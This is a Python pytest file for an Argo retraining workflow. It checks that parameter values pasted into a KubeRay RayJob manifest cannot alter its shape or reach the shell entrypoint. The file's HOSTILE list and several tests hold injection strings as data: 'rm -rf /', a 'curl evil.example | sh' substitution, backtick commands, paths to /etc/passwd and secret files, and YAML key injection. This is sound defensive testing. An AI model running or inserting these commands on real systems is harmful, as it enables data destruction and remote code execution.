"""No workflow parameter value can change the train step's RayJob beyond being one value.

Argo pastes ``{{...}}`` values into a resource template's manifest as text before the YAML
is parsed, and KubeRay runs the RayJob's entrypoint as a shell command on the Ray head
(which holds the S3 keys and the install secret). So: the entrypoint is fixed, every
placeholder but ``replicas`` is a whole quoted scalar, and the train step gets only what
``check-parameters`` checked against strict patterns, each passed to it as a separate argument.
"""

from __future__ import annotations

import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from workflows import pipeline_cli
from workflows.config import WorkflowSettings
from workflows.errors import ParameterError
from workflows.parameters import CHECKED_PARAMETERS, MAX_WORKERS, TRAIN_STEP_ENV, check_train_parameters
from workflows.pipeline_cli import app
from workflows.render import ARGO_DIR
from workflows.retrain import CHECK_STEP, TRAIN_ENTRYPOINT

pytestmark = pytest.mark.unit

# What an operator (or anyone allowed to submit) might pass with `argo submit -p name=value`
HOSTILE = {
    "training-config": [
        "training/configs/gpu-large.yaml; rm -rf /",
        "x.yaml\n          evil: true",
        "x.yaml'\nkind: Pod",
        "$(curl -s evil.example | sh).yaml",
        "../../etc/cxr/secret.yaml",
        "/etc/passwd.yaml",
        ".hidden/x.yaml",
        "training/configs/gpu-large.json",
        "",
    ],
    "base-model": [
        "1; rm -rf /",
        "production\n; rm -rf /",
        "none' && id '",
        "`id`",
        "production --epochs 999",
        "-1",
        "1.5",
        "",
    ],
    "epochs": ["1; rm -rf /", "3\n  evil: true", "-1", "1e3", " 3", "3 ", "10001", ""],
    "workers": [
        "2\n            hostNetwork: true",
        "2; rm -rf /",
        "0",
        str(MAX_WORKERS + 1),
        "0x10",
        "two",
        "",
    ],
}
VALID = {"training-config": "training/configs/gpu-large.yaml", "base-model": "production", "epochs": "0"}
VALID["workers"] = "2"
WORKFLOW_NAME = "cxr-retrain-x7k2p"
PLACEHOLDER = re.compile(r"\{\{([^}]+)\}\}")


def _retrain() -> dict[str, Any]:
    return yaml.safe_load((ARGO_DIR / "cxr-retrain.yaml").read_text())


def _template(name: str) -> dict[str, Any]:
    return next(t for t in _retrain()["spec"]["templates"] if t["name"] == name)


def _manifest_text() -> str:
    return str(_template("train")["resource"]["manifest"])


def _check(values: dict[str, str]) -> dict[str, object]:
    return check_train_parameters(
        training_config=values["training-config"],
        base_model=values["base-model"],
        epochs=values["epochs"],
        workers=values["workers"],
    ).outputs()


def _as_argo_creates_it(text: str, inputs: dict[str, str]) -> dict[str, Any]:
    """Fill the placeholders in as Argo does (plain text, before parsing), then parse."""

    def value(match: re.Match[str]) -> str:
        ref = match.group(1)
        if ref == "workflow.name":
            return WORKFLOW_NAME
        assert ref.startswith("inputs.parameters."), ref
        return inputs[ref.removeprefix("inputs.parameters.")]

    manifest = yaml.safe_load(PLACEHOLDER.sub(value, text))
    assert isinstance(manifest, dict)
    return manifest


def _shape(node: Any, path: str = "") -> set[str]:
    """Every key path of a parsed document: what a pasted value must never add to or take from."""
    if isinstance(node, dict):
        return {p for k, v in node.items() for p in {f"{path}/{k}", *_shape(v, f"{path}/{k}")}}
    if isinstance(node, list):
        return {p for i, v in enumerate(node) for p in {f"{path}/{i}", *_shape(v, f"{path}/{i}")}}
    return set()


def _head_env(manifest: dict[str, Any]) -> dict[str, str]:
    head = manifest["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    return {e["name"]: e.get("value", "") for e in head["env"]}


# --------------------------------------------------------------------- the RayJob manifest text


def test_no_placeholder_is_in_the_entrypoint_or_an_unquoted_scalar_but_the_checked_replicas() -> None:
    lines = [line for line in _manifest_text().splitlines() if "{{" in line]
    entrypoint = next(line for line in _manifest_text().splitlines() if "entrypoint:" in line)
    assert "{{" not in entrypoint and entrypoint.split(":", 1)[1].strip() == TRAIN_ENTRYPOINT
    unquoted = [
        line.strip() for line in lines if not re.fullmatch(r"\s*(- )?[\w./-]+: '\{\{[\w.-]+\}\}'", line)
    ]
    # replicas must be an integer for the CRD: the one bare placeholder, fed the checked workers
    assert unquoted == ["replicas: {{inputs.parameters.workers}}"]


def test_a_hostile_value_stays_one_env_value_and_never_reaches_the_entrypoint() -> None:
    text = _manifest_text()
    benign = _as_argo_creates_it(text, {"dataset-version": "0123456789abcdef", **VALID})
    hostile = "1; rm -rf / #$(id) && `id` --epochs 999"
    inputs = {name: hostile for name in TRAIN_STEP_ENV if name != "run-name"}
    inputs["workers"] = VALID["workers"]  # replicas: only a number check-parameters let through
    rayjob = _as_argo_creates_it(text, inputs)
    assert rayjob["spec"]["entrypoint"] == TRAIN_ENTRYPOINT == "cxr pipeline step train"
    assert _shape(rayjob) == _shape(benign), "a value added or removed keys of the manifest"
    env = _head_env(rayjob)
    for name, var in TRAIN_STEP_ENV.items():
        expected = WORKFLOW_NAME if name == "run-name" else inputs[name]
        assert env[var] == expected, name
    assert rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["replicas"] == 2


@pytest.mark.parametrize(("name", "value"), [(n, v) for n, values in HOSTILE.items() for v in values])
def test_check_parameters_refuses_a_value_that_could_break_out(name: str, value: str) -> None:
    """Newlines, quotes, shell syntax, paths out of the repository, numbers out of range: refused."""
    with pytest.raises(ParameterError, match=rf"^refused workflow parameters: {re.escape(name)} "):
        _check({**VALID, name: value})


def test_whatever_check_parameters_lets_through_keeps_the_manifest_one_shape() -> None:
    """Every accepted value (and its hostile neighbours, refused) against the real manifest text."""
    text = _manifest_text()
    benign = _shape(_as_argo_creates_it(text, {"dataset-version": "0123456789abcdef", **VALID}))
    accepted = [
        {**VALID, "training-config": "training/configs/cpu-small.yaml", "epochs": "30", "workers": "16"},
        {**VALID, "base-model": "NONE", "workers": "1"},
        {**VALID, "base-model": "42", "epochs": "007"},
    ]
    for values in accepted:
        checked = {k: str(v) for k, v in _check(values).items()}
        rayjob = _as_argo_creates_it(text, {"dataset-version": "0123456789abcdef", **checked})
        assert _shape(rayjob) == benign, values
        assert rayjob["spec"]["entrypoint"] == TRAIN_ENTRYPOINT
        assert rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["replicas"] == int(checked["workers"])
    # the hostile value the review names, in each parameter: refused before any RayJob is made
    for name in CHECKED_PARAMETERS:
        with pytest.raises(ParameterError, match=name):
            _check({**VALID, name: "1\n  evil: true; rm -rf /"})


def test_the_problems_are_named_together_with_escapes_visible() -> None:
    with pytest.raises(ParameterError) as caught:
        _check({"training-config": "/x.yaml", "base-model": "1; rm", "epochs": "x", "workers": "2\nk: v"})
    message = str(caught.value)
    for name in CHECKED_PARAMETERS:
        assert f"{name} " in message, name
    assert "'2\\nk: v'" in message and "\n" not in message


def test_the_templates_defaults_pass_the_check_unchanged(settings: WorkflowSettings) -> None:
    defaults = {p["name"]: p["value"] for p in _retrain()["spec"]["arguments"]["parameters"]}
    checked = _check({name: defaults[name] for name in CHECKED_PARAMETERS})
    assert {k: str(v) for k, v in checked.items()} == {name: defaults[name] for name in CHECKED_PARAMETERS}
    assert checked["training-config"] == settings.cluster_training_config


# --------------------------------------------------------------------- the DAG's wiring


def test_the_train_step_gets_only_check_parameters_outputs() -> None:
    tasks = {t["name"]: t for t in _template("retrain")["dag"]["tasks"]}
    given = {p["name"]: p["value"] for p in tasks["train"]["arguments"]["parameters"]}
    for name in CHECKED_PARAMETERS:
        assert given[name] == f"{{{{tasks.{CHECK_STEP}.outputs.parameters.{name}}}}}", name
    assert given["dataset-version"] == "{{tasks.build-dataset.outputs.parameters.dataset-version}}"
    assert "workflow.parameters" not in yaml.safe_dump(tasks["train"])
    # the check runs first, its outputs are the ones it declares
    assert "depends" not in tasks[CHECK_STEP] and tasks["ingest"]["depends"] == CHECK_STEP
    outputs = {p["name"] for p in _template(CHECK_STEP)["outputs"]["parameters"]}
    assert outputs == set(CHECKED_PARAMETERS)


def test_check_parameters_gets_each_parameter_as_its_own_argument_and_is_not_retried() -> None:
    template = _template(CHECK_STEP)
    args = template["container"]["args"]
    assert template["container"]["command"] == ["cxr", "pipeline", "step", CHECK_STEP]
    for name in CHECKED_PARAMETERS:
        i = args.index(f"--{name}")
        assert args[i + 1] == f"{{{{inputs.parameters.{name}}}}}", name
    assert all(arg.count("{{") <= 1 and (arg.startswith("{{") or "{{" not in arg) for arg in args)
    assert template["retryStrategy"]["retryPolicy"] == "OnError"  # a refused value stays refused
    tasks = {t["name"]: t for t in _template("retrain")["dag"]["tasks"]}
    given = {p["name"]: p["value"] for p in tasks[CHECK_STEP]["arguments"]["parameters"]}
    assert given == {name: f"{{{{workflow.parameters.{name}}}}}" for name in CHECKED_PARAMETERS}


# --------------------------------------------------------------------- the commands


def test_check_parameters_command_fails_with_a_clear_message_and_writes_nothing(tmp_path: Path) -> None:
    args = ["step", CHECK_STEP, "--training-config", VALID["training-config"], "--epochs", "0"]
    args += ["--base-model", "1\n  evil: true; rm -rf /", "--workers", "2", "--outputs", str(tmp_path / "o")]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert "refused workflow parameters: base-model" in result.output
    assert not (tmp_path / "o").exists()


def test_check_parameters_command_outputs_the_checked_values(tmp_path: Path) -> None:
    args = ["step", CHECK_STEP, "--training-config", "training/configs/cpu-small.yaml"]
    args += ["--base-model", "Production", "--epochs", "007", "--workers", "3", "--outputs", str(tmp_path)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    written = {p.name: p.read_text() for p in tmp_path.iterdir()}
    assert written == {
        "training-config": "training/configs/cpu-small.yaml",
        "base-model": "production",
        "epochs": "7",
        "workers": "3",
    }


def test_train_command_reads_its_options_from_the_rayjob_head_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the fixed entrypoint runs: `cxr pipeline step train` with no option on its command line."""
    from workflows import steps

    seen: dict[str, Any] = {}

    def fake_train(dataset_version: str, **kwargs: Any) -> SimpleNamespace:
        seen.update(kwargs, dataset_version=dataset_version)
        return SimpleNamespace(run_id="r1", model_version="5")

    monkeypatch.setattr(pipeline_cli, "_setup", lambda _settings: None)
    monkeypatch.setattr(steps, "train", fake_train)
    monkeypatch.setattr(steps, "default_store", lambda: object())
    monkeypatch.setattr(steps, "save_handoff", lambda *a, **k: None)
    env = {
        "dataset-version": "0123456789abcdef",
        "training-config": "training/configs/gpu-large.yaml",
        "base-model": "none",
        "epochs": "12",
        "workers": "4",
        "run-name": WORKFLOW_NAME,
    }
    cxr, pipeline, *args = TRAIN_ENTRYPOINT.split()
    assert (cxr, pipeline) == ("cxr", "pipeline")  # `app` is `cxr pipeline`
    result = CliRunner().invoke(app, args, env={TRAIN_STEP_ENV[k]: v for k, v in env.items()})
    assert result.exit_code == 0, result.output
    assert seen["dataset_version"] == env["dataset-version"]
    assert seen["config_path"] == Path(env["training-config"])
    assert (seen["base_model"], seen["epochs"], seen["workers"]) == ("none", 12, 4)
    assert seen["run_name"] == WORKFLOW_NAME
